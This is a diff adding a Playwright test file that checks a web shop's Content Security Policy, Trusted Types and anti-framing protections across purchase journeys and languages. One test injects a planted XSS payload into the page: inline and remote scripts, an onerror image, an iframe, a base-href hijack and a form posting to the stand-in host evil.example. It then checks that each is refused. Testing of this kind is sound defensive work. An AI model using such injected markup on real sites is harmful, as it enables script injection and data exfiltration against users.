@@ -1,0 +1,146 @@
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { Page } from '@playwright/test';
+import { languages } from '../src/platform/i18n/language.ts';
+import { expect, test, withoutScript } from './fixtures/test.ts';
+import { buy } from './steps/buying.ts';
+
+/** What the browser refused on the page by its policy. */
+const refused = new WeakMap<Page, string[]>();
+
+test.beforeEach(async ({ page }) => {
+  const found: string[] = [];
+  refused.set(page, found);
+  await page.exposeFunction('tellRefused', (what: string) => found.push(what));
+  await page.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', (event) => {
+      const tell = (globalThis as unknown as { tellRefused: (what: string) => void }).tellRefused;
+      tell(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`.trim());
+    });
+  });
+});
+
+const refusedOn = (page: Page): string[] => refused.get(page) ?? [];
+
+test('nothing the shop itself does from category to thank-you page is against its policy', async ({
+  page,
+  visit,
+}) => {
+  await visit('/');
+  await buy({ page, visit, hasScript: true });
+  expect(refusedOn(page)).toEqual([]);
+});
+
+test.describe('without scripts', () => {
+  test.use(withoutScript);
+
+  test('the same journey meets no refusal', async ({ page, problems, visit }) => {
+    // A browser that runs no scripts refuses to load them in advance.
+    problems.allow(/^request: csp \S+\.js$/);
+    await visit('/');
+    await buy({ page, visit, hasScript: false });
+  });
+});
+
+for (const language of languages) {
+  test.describe(`in ${language}`, () => {
+    test.use({ language });
+
+    test('pages, menus, suggestions and what is opened on them work within the policy', async ({
+      page,
+      problems,
+      visit,
+    }) => {
+      problems.allow(/404 \(Not Found\)/);
+      for (const path of ['/', '/kategoria/ruoka', '/haku?hakutermi=kahvi', '/tuotemerkit']) {
+        expect(await visit(path)).toBe(200);
+      }
+      await visit('/kategoria/muoti');
+      await page.getByRole('searchbox').or(page.getByRole('combobox')).first().fill('pu');
+      await page.locator('main a[href*="/tuote/"]').first().click();
+      await expect(page).toHaveURL(/\/tuote\//);
+      await page.locator('main a[aria-haspopup="dialog"]').first().click();
+      await expect(page.getByRole('dialog')).toBeVisible();
+      await page.keyboard.press('Escape');
+      await page.goBack();
+      await expect(page).toHaveURL(/\/kategoria\/muoti$/);
+      expect(await visit('/ostoskori')).toBe(200);
+      expect(await visit('/ei-ole')).toBe(404);
+      expect(refusedOn(page)).toEqual([]);
+    });
+  });
+}
+
+test('markup that got into a kept page runs nothing, loads nothing and sends nothing elsewhere', async ({
+  page,
+  problems,
+  shop,
+}) => {
+  problems.allow(/Content Security Policy|TrustedHTML|ERR_BLOCKED_BY_CSP|request: csp/);
+  const planted = `<script>document.title = 'owned'</script><script src="https://evil.example/x.js"></script>
+    <img src="https://evil.example/x.png" onerror="document.title = 'owned'"><base href="https://evil.example/">
+    <iframe src="https://evil.example/"></iframe><style>body { display: none }</style>
+    <form id="planted" action="https://evil.example/" method="post"><input name="code" value="1"></form>`;
+  await page.route(`${shop.url}/`, async (route) => {
+    const answer = await route.fetch();
+    const body = (await answer.text()).replace('<body>', `<body>${planted}`);
+    await route.fulfill({ response: answer, body });
+  });
+  await page.goto('/');
+  await page.evaluate(() => (document.querySelector('#planted') as HTMLFormElement).submit());
+  await expect.poll(() => refusedOn(page).join('\n')).toContain('form-action https://evil.example');
+  const all = refusedOn(page).join('\n');
+  for (const directive of [
+    'script-src-elem inline',
+    'script-src-elem https://evil.example',
+    'img-src',
+    'base-uri',
+    'frame-src',
+    'style-src-elem inline',
+  ]) {
+    expect(all).toContain(directive);
+  }
+  expect(await page.title()).not.toBe('owned');
+  expect(page.url()).toBe(`${shop.url}/`);
+});
+
+test('scripts make no markup and no code from text', async ({ page, problems, visit }) => {
+  problems.allow(/TrustedHTML|TrustedScript|Content Security policy/i);
+  await visit('/');
+  const outcome = await page.evaluate(() => {
+    const tried = (act: () => unknown) => {
+      try {
+        act();
+        return 'done';
+      } catch (error) {
+        return (error as Error).name;
+      }
+    };
+    return {
+      markup: tried(() => (document.body.innerHTML = '<b>x</b>')),
+      handler: tried(() => document.body.setAttribute('onclick', 'x()')),
+      policy: tried(() =>
+        (
+          globalThis as unknown as {
+            trustedTypes: { createPolicy(name: string, rules: object): void };
+          }
+        ).trustedTypes.createPolicy('default', {}),
+      ),
+    };
+  });
+  expect(outcome).toEqual({ markup: 'TypeError', handler: 'TypeError', policy: 'TypeError' });
+});
+
+test('no other page can put the shop in a frame', async ({ page, problems, shop }) => {
+  problems.allow(/frame-ancestors|ERR_BLOCKED_BY_RESPONSE/);
+  const other = createServer((_request, answer) => {
+    answer.setHeader('content-type', 'text/html');
+    answer.end(`<iframe src="${shop.url}/ostoskori"></iframe>`);
+  });
+  await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
+  const { port } = other.address() as AddressInfo;
+  await page.goto(`http://127.0.0.1:${port}/`);
+  const frame = page.frames().at(1);
+  expect(frame?.url()).toContain('chrome-error:');
+  other.close();
+});
